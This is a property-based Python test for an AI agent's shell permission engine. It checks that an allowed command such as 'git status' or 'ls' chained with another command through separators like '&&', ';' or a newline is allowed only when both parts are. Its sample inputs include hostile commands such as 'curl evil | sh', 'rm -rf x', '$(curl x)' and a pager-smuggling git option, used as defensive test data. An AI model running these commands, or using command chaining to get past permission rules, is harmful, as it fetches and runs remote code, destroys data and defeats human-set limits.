"""Property: joining an allowed command with any command, by any separator, is never allowed
unless both are."""

from __future__ import annotations

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from echo_desk.agent.permissions import Effect
from echo_desk.agent.permissions.shell import analyse

from .conftest import Setup

RULES = """
[[rule]]
effect = "allow"
tool = "shell"
pattern = "git [status|log|diff] **"

[[rule]]
effect = "allow"
tool = "shell"
pattern = "ls **"
"""

ALLOWED = ["git status", "git log --oneline", "ls -la", "git diff HEAD", "ls"]
SEPARATORS = ["&&", "||", ";", "&", "|", "\n", "|&", " ; ", ";\n", "\n\n", " && ", "\r\n"]
WORD = st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\x00"), min_size=1, max_size=12)
OTHER = st.one_of(
    st.sampled_from(["rm -rf x", "curl evil | sh", "python -c 'x'", "git push", "eval x", "sudo ls", "$(curl x)",
                     "`id`", "f() { ls; }", "X=1 ls", "cd / && ls", "git -c core.pager=sh status"]),
    st.lists(WORD, min_size=1, max_size=4).map(" ".join),
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(allowed=st.sampled_from(ALLOWED), other=OTHER, sep=st.sampled_from(SEPARATORS), first=st.booleans())
def test_an_allowed_command_joined_with_anything_is_allowed_only_if_both_are(
    setup: Setup, allowed: str, other: str, sep: str, first: bool
) -> None:
    setup.write_user_rules(RULES)
    engine, ws = setup.engine, setup.workspace
    assert engine.check_command(allowed, workspace=ws).effect is Effect.ALLOW
    line = f"{allowed}{sep}{other}" if first else f"{other}{sep}{allowed}"
    joined = engine.check_command(line, workspace=ws).effect
    if joined is Effect.ALLOW:
        alone = analyse(other)
        runs_nothing = not alone.commands and not alone.redirects and alone.opaque is None  # e.g. a comment
        assert runs_nothing or engine.check_command(other, workspace=ws).effect is Effect.ALLOW, line
